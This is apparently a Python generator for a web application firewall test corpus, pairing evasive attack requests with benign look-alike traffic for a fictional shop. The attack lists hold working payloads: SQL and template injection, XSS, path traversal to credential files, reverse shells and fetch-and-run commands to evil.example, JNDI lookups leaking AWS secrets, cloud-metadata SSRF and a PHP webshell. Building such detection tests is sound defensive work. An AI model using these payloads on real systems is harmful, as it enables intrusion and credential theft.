#!/usr/bin/env python3
"""Held-out WAF test set #2: evasive attacks (expect=detect) and look-alike
legitimate traffic (expect=pass). Standard library only, fixed seed.

Writes OUT/evasions-attacks.jsonl and OUT/evasions-benign.jsonl, OUT being the first argument
(default: rulesets/tests/data). Written 2026-12-04 by a session that had read neither the
rules nor the other corpora; measured once as held-out traffic (README.md), then one false
positive class it showed was fixed (lfi-211), so it is a regression set now."""
import base64, html, json, os, random
from collections import Counter
from urllib.parse import quote, quote_plus

import sys
OUT = (sys.argv[1] if len(sys.argv) > 1 else
       os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "rulesets", "tests", "data"))
rng = random.Random(0x5EED2)
HOST = "shop.example"
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "ja-JP,ja;q=0.9", "fr-FR,fr;q=0.9,en;q=0.6", "pt-BR,pt;q=0.9"]
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"   # RFC 6265 cookie-octets (minus %)


class Raw(str):
    """Payload already in wire form (the encoding is the evasion): used verbatim."""


def tok(n=32):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def enc(v):
    if isinstance(v, Raw):
        return str(v)
    return (quote_plus if rng.random() < 0.5 else quote)(scalar(v), safe="")


def cenc(v):
    return str(v) if isinstance(v, Raw) else quote(scalar(v), safe=COOKIE_SAFE)


def scalar(v):
    return "" if v is None else ("true" if v is True else "false" if v is False else str(v))


def flat(d, pre=""):
    out = []
    for k, v in (d.items() if isinstance(d, dict) else enumerate(d)):
        key = f"{pre}[{k}]" if pre else str(k)
        out += flat(v, key) if isinstance(v, (dict, list)) else [(key, v)]
    return out


def qs(pairs):
    return "&".join(f"{quote(k, safe='[]$')}={enc(v)}" for k, v in pairs)


def request(set_, cat, n, expect, loc, path, fields, cookie=None):
    """fields: dict (nested allowed). json -> body as-is; query/form/cookie -> flattened;
    path -> first value substituted for '{}' in path, the rest go to the query."""
    h = [["Host", HOST], ["User-Agent", rng.choice(UAS)],
         ["Accept", "application/json" if loc == "json" else "*/*"], ["Accept-Language", rng.choice(LANGS)]]
    method, uri, body, pairs = "GET", path, None, flat(fields)
    if loc == "query":
        uri = path + "?" + qs(pairs)
    elif loc == "path":
        uri = path.replace("{}", quote(scalar(pairs[0][1]), safe=""))
        uri += ("?" + qs(pairs[1:])) if pairs[1:] else ""
    elif loc == "form":
        method, body = "POST", qs(pairs)
        h.append(["Content-Type", "application/x-www-form-urlencoded"])
    elif loc == "json":
        method, body = "POST", json.dumps(fields, ensure_ascii=rng.random() < 0.7)
        h.append(["Content-Type", "application/json"])
    elif loc == "cookie":
        cookie = pairs
    if cookie:
        h.append(["Cookie", "; ".join(f"{k}={cenc(v)}" for k, v in cookie)])
    r = {"id": f"{set_}/{cat}/{n}", "set": set_, "category": cat, "expect": expect, "method": method,
         "uri": uri, "version": "HTTP/1.1", "headers": h}
    if body is not None:
        r["body"] = body
    r["location"] = loc
    return r


# ----------------------------------------------------------------------------- attacks
PHP_B64 = base64.b64encode(b"<?php system($_GET['c']); ?>").decode()
JAVA_SER = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00"
                            b"\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02sr\x00+"
                            b"org.apache.commons.beanutils.BeanComparator").decode()
CATS = {
 "sqli": (["/products", "/api/v1/items", "/catalog/list", "/account/orders"], ["id", "cat", "sort", "order_id"], [
    "1' UN/**/ION SEL/**/ECT null,user(),version()-- -",
    "1'/**/UNION/**/SELECT/**/1,username,password/**/FROM/**/users-- -",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,table_name,3 FROM information_schema.tables-- -",
    "-1'/*!12345UnIoN*//*!12345sElEcT*/1,group_concat(column_name),3 from information_schema.columns where table_schema=database()#",
    "1'\tUNION\tSELECT\tNULL,NULL,@@version#",
    "-1'\nunion\nselect\n1,2,current_user--\n",
    "1'\x0cOR\x0c1=1-- -",
    Raw("1%27%a0union%a0select%a01,user(),3--%a0-"),
    Raw("-1'%0bUnIoN%0bSeLeCt%0b1,2,3%23"),
    "-1'union(select(1),(user()),(3))#",
    "'||(select(1)from(select(sleep(5)))a)||'",
    "1' union select 1,0x61646d696e,3 from users where login=0x61646d696e-- -",
    "1' AND username=CHAR(97,100,109,105,110)-- -",
    "1e0union select 1,load_file(0x2f6574632f706173737764),3-- -",
    "0.1e1union/**/select/**/table_name/**/from/**/information_schema.tables-- -",
    "1' AND SLEEP(5) AND '1'='1",
    "1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
    "1' AND BENCHMARK(5000000,MD5(0x41))-- -",
    "1';SELECT pg_sleep(5)--",
    "1' || (SELECT 1 FROM pg_sleep(5))--",
    "1';WAITFOR DELAY '0:0:5'--",
    "1' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)--",
    "1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
    "1' AND extractvalue(1,concat(0x7e,(select @@version),0x7e))-- -",
    "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -",
    "1';DECLARE @q varchar(99);SET @q=0x77686f616d69;EXEC(@q)--",
    "-1'union#x\nselect 1,user()#",
    "1' or JSON_EXTRACT('{\"a\":1}','$.a')=1-- -",
    "admin'/**/or/**/'x'like'x",
 ]),
 "xss": (["/search", "/reviews/new", "/profile/edit", "/comments"], ["q", "comment", "display_name", "message"], [
    "<svg onload=alert(1)>",
    "<svg/onload=alert&#40;document.domain&#41;>",
    "<svg\nonload=confirm(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(document.cookie)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<iframe src=\"javas&Tab;cript:alert(1)\">",
    "<img src=x onerror=\\u0061lert(1)>",
    "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "<svg onload=[].constructor.constructor('alert(1)')()>",
    "<svg onload=alert`1`>",
    "<img src=x onerror=top['al'+'ert'](1)>",
    "<svg onload=setTimeout('al'+'ert(1)')>",
    "<img src=x:x onerror=window.onerror=alert;throw 1>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<form><button formaction=javascript:alert(1)>X</button></form>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\"><svg/onload=confirm(1)//",
    "</script><ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\"></b>",
    "<img src=x onerror=import('//evil.example/x.js')>",
    Raw("%253Csvg%2520onload%253Dalert(1)%253E"),
    Raw("%u003Csvg%u0020onload%u003Dalert(1)%u003E"),
 ]),
 "lfi": (["/download", "/view", "/static/load", "/docs/page"], ["file", "page", "template", "doc"], [
    "../../../../etc/passwd",
    "....//....//....//....//etc/passwd",
    "..;/..;/..;/WEB-INF/web.xml",
    "..././..././..././etc/hosts",
    "..\\/..\\/..\\/etc/passwd",
    "..//..//..//..//etc//shadow",
    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "..\\..\\..\\..\\..\\Windows\\win.ini",
    "/proc/self/environ",
    "../../../../proc/self/cmdline",
    "....//....//....//proc/self/status",
    "/var/www/html/../../../../etc/shadow",
    "../../../../../../var/log/apache2/access.log",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/app/.aws/credentials",
    "file:///etc/passwd",
    Raw("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    Raw("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    Raw("%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    Raw("%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    Raw("..%252f..%252f..%252fetc%252fgroup"),
    Raw("../../../etc/passwd%00.png"),
    Raw(".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    Raw("..%u2216..%u2216..%u2216windows%u2216win.ini"),
 ]),
 "rce": (["/tools/ping", "/api/diagnostics", "/admin/backup", "/convert"], ["host", "ip", "target", "filename"], [
    ";cat$IFS/etc/passwd",
    "127.0.0.1;{cat,/etc/passwd}",
    "|/???/c?t /???/p??s??",
    ";a=ca;b=t;$a$b /etc/passwd",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";{echo,Y2F0IC9ldGMvcGFzc3dk}|{base64,-d}|bash",
    "&w^h^o^a^m^i",
    "127.0.0.1 & c^m^d /c \"d^ir C:\\\"",
    "$(id)",
    "`whoami`",
    ";c''at /e''tc/pa''sswd",
    ";c\\at /et\\c/pas\\swd",
    "|curl http://evil.example/x.sh|bash",
    ";wget -qO- evil.example/s|sh",
    ";bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "127.0.0.1\nid",
    "||ping -c 10 127.0.0.1||",
    ";${PATH:0:1}bin${PATH:0:1}cat ${HOME:0:1}etc${HOME:0:1}passwd",
    ";cat</etc/passwd",
    "|powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
    ";sleep${IFS}10",
    ";nc -e /bin/sh 10.0.0.1 4444",
    "$(printf '\\x63\\x61\\x74') /etc/passwd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";rev<<<'dwssap/cte/ tac'|sh",
    ";python3 -c 'import os;os.system(\"id\")'",
    ";/bin/ca[t] /etc/pass[w]d",
 ]),
 "ssti": (["/preview", "/newsletter/render", "/profile/edit", "/greeting"], ["name", "template", "subject", "bio"], [
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read()}}",
    "{{config.__class__.__init__.__globals__['o'+'s'].popen('whoami').read()}}",
    "{{request|attr([\"_\"*2,\"class\",\"_\"*2]|join)}}",
    "{%set x=lipsum|attr('__glo'~'bals__')%}{{x.os.popen('id').read()}}",
    r"{{()|attr('\x5f\x5fclass\x5f\x5f')|attr('\x5f\x5fbase\x5f\x5f')|attr('\x5f\x5fsubclasses\x5f\x5f')()}}",
    "{{(lipsum|attr('__glob'+'als__'))['__buil'+'tins__']['ev'+'al']('__imp'+'ort__(\"os\").popen(\"id\").read()')}}",
    "{{url_for.__globals__.os.popen('id').read()}}",
    "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    "{{['id']|filter('system')}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{system('id')}",
    "<%= `id` %>",
    "<%= system(\"whoami\") %>",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "${self.module.cache.util.os.system(\"id\")}",
    "{% import os %}{{ os.popen(\"id\").read() }}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "${{<%[%'\"}}%\\.",
 ]),
 "java": (["/api/login", "/search", "/struts/index.action", "/actuator/filter"], ["username", "q", "redirect", "expression"], [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/o}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/x}",
    "${jndi:dns://${hostName}.evil.example/x}",
    "${${upper:j}ndi:ldaps://evil.example:1389/x}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
    "${jndi:rmi://evil.example:1099/obj}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://${env:AWS_SECRET_ACCESS_KEY}.evil.example}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")}",
    "${T(java.lang.Runtime).getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})}",
    "T(String).getClass().forName(\"java.l\"+\"ang.Ru\"+\"ntime\").getMethod(\"ex\"+\"ec\",T(String)).invoke(T(String).getClass().forName(\"java.l\"+\"ang.Ru\"+\"ntime\").getMethod(\"getRu\"+\"ntime\").invoke(null),\"id\")",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString(#process.getInputStream()))}",
    "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).start()}",
    "${@java.lang.Runtime@getRuntime().exec(\"id\")}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),\"utf-8\"))}",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://evil.example:1099/Exploit\",\"autoCommit\":true}",
    "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://evil.example:1389/Exploit\",\"autoCommit\":true}]",
    JAVA_SER,
 ]),
 "php": (["/index.php", "/page.php", "/include.php", "/wp-admin/admin-ajax.php"], ["page", "file", "lang", "data"], [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "PHP://FiLtEr/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=../config.php",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp",
    "php://filter/convert.base64-decode/resource=data://plain/text,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data://text/plain;base64," + PHP_B64,
    "data:text/plain,<?php phpinfo();?>",
    "phar://uploads/avatar.jpg/shell.php",
    "expect://id",
    "php://input",
    "zip://uploads/archive.zip#shell.php",
    "compress.zlib:///etc/passwd",
    "<?php system($_GET['cmd']); ?>",
    "<?=`$_GET[0]`?>",
    "<?php eval(base64_decode('c3lzdGVtKCJpZCIpOw==')); ?>",
    "<?php $f='sys'.'tem';$f('id');?>",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":1:{s:13:\"\\0*\\0formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\\0*\\0event\";s:2:\"id\";}",
    "O:+4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
    "{${system($_GET[1])}}",
    "';system('id');//",
    "http://evil.example/shell.txt?",
    "\\\\evil.example\\share\\shell.php",
 ]),
 "ssrf": (["/api/fetch", "/webhooks/test", "/image/proxy", "/import/url"], ["url", "callback", "image_url", "feed"], [
    "http://2130706433/",
    "http://0177.0.0.1/admin",
    "http://0x7f000001/",
    "http://127.1:8080/",
    "http://0/",
    "http://[::ffff:127.0.0.1]:8080/",
    "http://[::ffff:7f00:1]/server-status",
    "http://[::]:22/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://100.100.100.200/latest/meta-data/",
    "http://169.254.170.2/v2/credentials/",
    "http://shop.example@127.0.0.1/",
    "http://127.0.0.1#@shop.example/",
    "http://shop.example:80@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://①②⑦.⓪.⓪.①/admin",
    "gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a",
    "dict://127.0.0.1:11211/stat",
    "http://localhost:2375/containers/json",
    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "file://localhost/etc/shadow",
 ]),
 "nosqli": (["/api/login", "/api/users", "/api/search", "/auth/session"], ["username", "password", "q", "filter"], [
    {"username": "admin", "password": {"$ne": None}},
    {"username": {"$gt": ""}, "password": {"$gt": ""}},
    {"username": "admin", "password": {"$regex": "^a"}},
    {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$ne": "x"}},
    {"username": "admin", "password": {"$exists": True}},
    {"$where": "sleep(5000)"},
    {"username": "admin", "$where": "this.password.length > 0"},
    {"username": {"$regex": ".*"}, "password": {"$nin": [""]}},
    {"email": {"$ne": "a@b.c"}, "password": {"$ne": "a"}},
    {"username": {"$not": {"$eq": "x"}}, "password": {"$ne": 1}},
    {"filter": {"$or": [{"role": "admin"}, {"role": {"$ne": "x"}}]}},
    {"$expr": {"$function": {"body": "function(){sleep(5000);return true}", "args": [], "lang": "js"}}},
    {"username": "admin", "password": {"$regex": "^.{8}$"}},
    {"token": {"$type": 2}},
    {"username": {"$eq": "admin"}, "password": {"$gte": ""}},
    {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]},
    "admin' || '1'=='1",
    "'; return true; var dummy='",
    "';sleep(5000);var x='",
    "{\"$gt\":\"\"}",
    "this.constructor.constructor('return process')().exit()",
    "true, $where: '1 == 1'",
    "\"; return this.password.match(/^a/) //",
 ]),
}
JSON_WRAP = [
    lambda p, v: {"data": {"type": "item", "attributes": {p: v}}},
    lambda p, v: {"filter": {"where": {p: v}}, "limit": 20},
    lambda p, v: {"order": {"items": [{"sku": "AB-12/34", "qty": 1}], "meta": {p: v}}},
    lambda p, v: {"profile": {"settings": {p: v, "theme": "dark"}}},
]
EXTRA_Q = [("page", "2"), ("lang", "en"), ("utm_source", "newsletter"), ("ref", "home")]


def attack_requests():
    out = []
    for cat, (paths, params, payloads) in CATS.items():
        n = 0
        for pl in payloads:
            locs = ["query", "form", "cookie"] if isinstance(pl, Raw) else ["query", "form", "json", "cookie"]
            for loc in rng.sample(locs, 2):
                n += 1
                path, p = rng.choice(paths), rng.choice(params)
                if isinstance(pl, dict):            # NoSQL operator object / bracket syntax
                    if loc == "json":
                        fields = pl
                    elif loc == "cookie":
                        fields = {"sid": tok(), "auth": "j:" + json.dumps(pl, separators=(",", ":"))}
                    else:
                        fields = dict(flat(pl))
                else:
                    if loc == "json":
                        fields = rng.choice(JSON_WRAP)(p, pl)
                    elif loc == "form":
                        fields = {"csrf_token": tok(), p: pl}
                    elif loc == "cookie":
                        fields = {"sid": tok(), p: pl}
                    else:
                        fields = {p: pl}
                        if rng.random() < 0.5:
                            fields.update([rng.choice(EXTRA_Q)])
                out.append(request("heldout2", cat, n, "detect", loc, path, fields))
    return out


# ----------------------------------------------------------------------------- benign
SEARCH = [
    "café crème brûlée recipe", "Ноутбук Lenovo ThinkPad X1", "東京 ホテル 格安 2泊", "北京烤鸭 做法", "مكتبة القاهرة الكبرى",
    "שולחן עץ מלא", "Großhändler für Fußbälle", "ñandú de peluche", "điện thoại samsung giá rẻ", "κλιματιστικό inverter",
    "한국어 교재 초급", "चाय पत्ती असम", "Zürich → Genève", '"red dress" -sleeveless', '"machine learning" -python book',
    'laptop 16gb -refurbished "free shipping"', "O'Reilly Learning SQL", "rock 'n' roll vinyl", '"it\'s a wonderful life" dvd',
    "AB-12/34", "ZX-900/11-B replacement filter", "part #4471-A (rev. 2)", "+1 (555) 013-4477", "2^10 = 1024 poster",
    "x^2 + y^2 = r^2 mug", "50% off & free returns", "C++ vs C# performance", "SELECT the best option for home insurance",
    "union square restaurants", "drop shipping suppliers europe", "order by price: low to high", "script fonts for wedding",
    "alert sounds for iphone", "exec office chair ergonomic", "cat food for senior cats", "echo dot 5th gen",
    "sleep mask 100% silk", "javascript for beginners book", "where is my order?", '1/2" copper pipe fittings',
    "size 10½ shoes", "tea & biscuits gift set", "kids' table and chairs", "USB-C to HDMI (4K@60Hz)", "résumé templates",
    "shoes <50€", "best tv > 55 inch", "if-then-else flowchart poster",
]
RICH = [
    '<p>Welcome to our <b>spring sale</b>! Read the <a href="https://shop.example/blog/spring-2024">full announcement</a>.</p>',
    '<p>Prices start at &euro;9.99 &amp; shipping is free over &euro;50.</p><p><i>Terms apply.</i></p>',
    '<h2>FAQ</h2><ul><li>Can I return items? <b>Yes</b>, within 30 days.</li><li>Do you ship to Canada? Yes.</li></ul>',
    '<p style="text-align:center;color:#444">Photo by <a href="https://unsplash.com/@anna" rel="nofollow noopener" target="_blank">Anna K.</a></p>',
    '<blockquote><p>&ldquo;Best purchase this year&rdquo; &mdash; Maria, Lisbon</p></blockquote>',
    '<p>Use code <code>SPRING-24</code> at checkout. Valid if total &gt; 30 &amp;&amp; items &lt; 10.</p>',
    '<p><img src="https://cdn.shop.example/img/banner_1200x400.jpg" alt="Banner: new arrivals" width="1200" height="400"></p>',
    '<table><tr><th>Size</th><th>EU</th><th>US</th></tr><tr><td>M</td><td>40</td><td>8</td></tr></table>',
    '<p>Das neue Modell ist <b>größer</b> und leichter &ndash; jetzt verfügbar.</p>',
    '<p>新商品のご案内：<a href="https://shop.example/ja/new">こちら</a>をご覧ください。</p>',
    '<p><span style="font-family:Georgia,serif;font-size:18px;background-color:rgb(255,250,230)">Limited edition</span></p>',
    '<ol><li>Open the box</li><li>Press &amp; hold the power button for 3s</li><li>Select <b>Pair</b></li></ol>',
    '<p>Questions? Email <a href="mailto:help@shop.example?subject=Order%20question">help@shop.example</a> or call +44 20 7946 0958.</p>',
    '<p>Update: the recall affects lots 2023-11-A to 2023-12-C only.</p><hr><p><small>Last edited 2024-05-02</small></p>',
    '<p>Formula: <i>E</i> = <i>mc</i><sup>2</sup>, and 2<sup>10</sup> = 1024.</p>',
    '<figure><img src="/media/2024/05/chair.webp" alt=""><figcaption>The Oslo chair in oak</figcaption></figure>',
    '<p>Click <a href="https://docs.shop.example/select-size?from=blog&amp;utm_source=newsletter">here</a> to select your size.</p>',
    '<div class="note" style="border:1px solid #ddd;padding:8px">Note: orders placed after 2pm ship next day.</div>',
]
MD = [
    "Run `npm install --save-dev eslint` and then `npx eslint .`",
    "## Changelog\n- Fixed `null` pointer in cart\n- Added **dark mode**\n- Removed deprecated `/v1/` endpoints",
    "Use `git rebase -i HEAD~3` to squash commits; see [docs](https://git-scm.com/docs/git-rebase).",
    "```python\nfor i in range(10):\n    print(i ** 2)\n```",
    "> Tip: press `Ctrl+Shift+P` and select *Format Document*.",
    "| Plan | Price |\n|------|-------|\n| Basic | $5 |\n| Pro | $12 |",
    "Set `max_items = 50` in `config.yaml`, then restart the worker.",
    "If `x < 5 && y > 3` the chart shows the warning banner.",
    "Inline math: $a^2 + b^2 = c^2$ and `O(n log n)` sorting.",
    "1. Select the best option\n2. Update the cart\n3. Drop unused coupons",
    "See ![diagram](https://cdn.shop.example/docs/flow.png \"Checkout flow\")",
]
SUPPORT = [
    r"The installer fails with 'Access denied' writing to C:\Program Files\Acme\config.ini",
    r"Log is at C:\Users\Anna\AppData\Local\Temp\acme_setup.log, attached.",
    r"Reports on \\fileserver\shared\reports\Q3-2024.xlsx won't open after the update",
    r"Excel export path defaults to D:\Exports\2024\May\ - can I change it?",
    "My order #A-1042/7 arrived damaged, the box was open.",
    "Error 500 when I go to https://shop.example/checkout?step=2&cart=8812",
    "If x < 5 && y > 3 the dashboard chart breaks (Chrome 124, Windows 11).",
    "I tried to select all & delete the old addresses but nothing happens.",
    "Charged twice: €49.99 on 2024-04-30 and again on 2024-05-01.",
    "Please cancel order 88-2231; I ordered the wrong size (M instead of L).",
    "Stack trace: java.lang.NullPointerException at com.acme.cart.Cart.total(Cart.java:42)",
    "App crashes on Android 14 when I rotate the screen – version 3.2.1 (build 4410)",
    "Der Gutschein SOMMER-20 funktioniert nicht, Fehlermeldung: „Code ungültig“.",
    "Bonjour, je n'ai pas reçu ma commande n° 55621 — pouvez-vous vérifier ?",
    "配送状況を確認したいです。注文番号：JP-2024-0519",
    "Hi! Can you ship to P.O. Box 1234, Anchorage AK 99501?",
    "The PDF invoice shows 'NaN' for tax when quantity is 0.5 kg",
    "Tracking says 'delivered' but neighbour #12 didn't get it either :(",
    "Password reset link expires too fast (< 5 min?)",
    "Keyboard layout issue: typing ü gives [ in the search box",
    "Your site says 'Union Pay accepted' but the option isn't shown at checkout.",
    "Please update my phone to +49 30 901820 and email to jörg.müller@example.de",
    "Screen reader reads the 'Add to cart' button twice.",
    "Product page /p/AB-12/34 shows the wrong colour (should be navy, not black).",
    "When I paste from Word I get weird characters like â€™ in my review.",
    "I'm on Windows 10, Edge 123; the 'Drop files here' area doesn't accept .heic",
    "Can I get a copy of invoice INV-2024/0042? Our accountant needs it by Friday.",
    "Batch job ran at 03:00 instead of 02:00 after the DST change.",
    "The size chart says 42 = 8.5 US but the shoe is clearly a 9.",
    "Thanks for the quick fix!! 👍🙏",
]
CRON = ["*/5 * * * *", "0 0 * * 1-5", "0 30 9 ? * MON-FRI", "15 2 1 * *", "0 */6 * * *", "@daily", "0 0 12 1/1 * ? *", "45 23 * * 0"]
REGEX = [r"^[A-Z]{2}-\d{2}/\d{2}$", r"^\+?[0-9 ()-]{7,20}$", r"(?i)invoice\s+#\d+", r"\b(foo|bar)\b",
         r"^[\w.+-]+@[\w-]+\.[\w.]+$", r"^\d{5}(-\d{4})?$", r"[^\x00-\x7F]+", r"^(?!test-).*$", r"\.(jpe?g|png|webp)$"]
CSS = ["body { font-family: 'Segoe UI', sans-serif; color: #222; }", ".btn-primary{background:#0a66c2;border-radius:4px}",
       "h1, h2 { letter-spacing: -0.02em; margin: 0 0 .5em; }", "@media (max-width: 600px) { .sidebar { display: none; } }",
       ".price::after { content: ' €'; }", "a:hover{text-decoration:underline;color:rgb(10,102,194)}"]
LISTS = ["en-US;de-DE;fr-FR;ja-JP", "admin@example.com; ops@example.com; billing@example.com", "red;green;blue",
         "Mon;Tue;Wed;Thu;Fri", "S;M;L;XL;XXL", "AB-12/34;CD-99/01;EF-07/22", "gzip, deflate, br"]
URLS = ["https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXX", "https://example.com/oauth/callback?state=abc&code=",
        "https://api.partner.example/v1/orders?since=2024-05-01T00:00:00Z", "https://shop.example/thank-you?utm_source=email&utm_medium=cta",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s", "https://maps.google.com/?q=52.5200,13.4050"]
TEMPLATES = ["Hi {{ customer.first_name }}, your order #{{ order.number }} has shipped!", "%Y-%m-%d %H:%M", "dd.MM.yyyy HH:mm",
             "Order {order_id} – {status}", "Thanks, $name! Your total is $total."]
NAMES = ["Zoë Saldaña 😀", "李小龙", "Ólafur Arnalds", "Małgorzata Wójcik", "Renée O'Connor", "Nguyễn Văn An", "Amélie 🎨✨",
         "محمد علي", "José Ñúñez", "Søren Kierkegaard", "Дмитрий Иванов", "Jean-Luc D'Arcy"]
BIOS = ["Coffee ☕ + code 💻 + cats 🐈", "Je suis développeur à Montréal.", "Runner 🏃‍♀️ | 42.195 km × 12",
        "日本語とEnglishを話します", "Building things with Rust & Go", "\"Stay hungry\" — 1/2 designer, 1/2 baker 🍰"]
